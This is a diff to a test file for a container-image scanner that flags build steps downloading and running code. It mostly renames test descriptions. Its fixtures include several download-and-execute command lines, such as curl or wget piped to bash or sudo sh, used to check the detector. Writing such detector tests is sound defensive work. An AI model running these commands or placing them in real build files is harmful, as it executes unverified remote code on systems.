@@ -4,7 +4,7 @@ import { evaluateHistory } from './index.js';
 
 const evaluate = (...steps: string[]) => evaluateHistory(steps.map((createdBy) => ({ createdBy })));
 
-describe('history', () => {
+describe('evaluateHistory', () => {
   it.each([
     ['RUN /bin/sh -c curl -fsSL https://get.example.com/install | bash # buildkit', 'medium'],
     ['/bin/sh -c wget -qO- http://198.51.100.7/x.sh | sudo -E sh -', 'high'],
@@ -16,7 +16,7 @@ describe('history', () => {
     ['RUN /bin/sh -c bash <(curl -s http://example.com/i) # buildkit', 'high'],
     ['RUN /bin/sh -c wget http://example.com/setup.sh && chmod +x setup.sh && ./setup.sh # buildkit', 'high'],
     ['RUN /bin/sh -c curl -o /tmp/i.sh https://example.com/x; sh /tmp/i.sh # buildkit', 'medium'],
-  ])('a build that runs what it downloads: %s', (step, severity) => {
+  ])('reports a build that runs a download: %s', (step, severity) => {
     expect(evaluate(step)).toMatchObject([
       { id: 'history-download-and-run', kind: 'supply-chain', severity, layer: null },
     ]);
@@ -32,7 +32,7 @@ describe('history', () => {
       'low',
     ],
     ['RUN /bin/sh -c curl https://example.com/a.tgz | tar xz # buildkit', 'history-download-without-checksum', 'low'],
-  ])('a download that nobody compares: %s', (step, id, severity) => {
+  ])('reports an unverified download: %s', (step, id, severity) => {
     expect(evaluate(step)).toMatchObject([{ id, kind: 'supply-chain', severity, confidence: 'possible' }]);
   });
 
@@ -47,21 +47,21 @@ describe('history', () => {
     'RUN /bin/sh -c echo "run: curl https://example.com | sh" # buildkit',
     'HEALTHCHECK CMD wget',
     '',
-  ])('nothing to say of: %s', (step) => {
+  ])('ignores %s', (step) => {
     expect(evaluate(step)).toEqual([]);
   });
 
-  it('does not take a digest compared elsewhere for one of what is piped', () => {
+  it('does not apply a digest of another file to a piped download', () => {
     const step = 'RUN /bin/sh -c curl https://example.com/a | sh && sha256sum -c sums # buildkit';
     expect(evaluate(step)).toMatchObject([{ id: 'history-download-and-run' }]);
   });
 
-  it('tells the same thing of two steps once', () => {
+  it('reports equal steps once', () => {
     const step = 'RUN /bin/sh -c curl https://example.com/a | sh # buildkit';
     expect(evaluate(step, step)).toHaveLength(1);
   });
 
-  it('throws at no text and comes to an end', () => {
+  it('accepts any text and ends', () => {
     fc.assert(
       fc.property(fc.string({ maxLength: 200 }), (text) =>
         Array.isArray(evaluate(text, `RUN /bin/sh -c curl ${text} | sh`)),
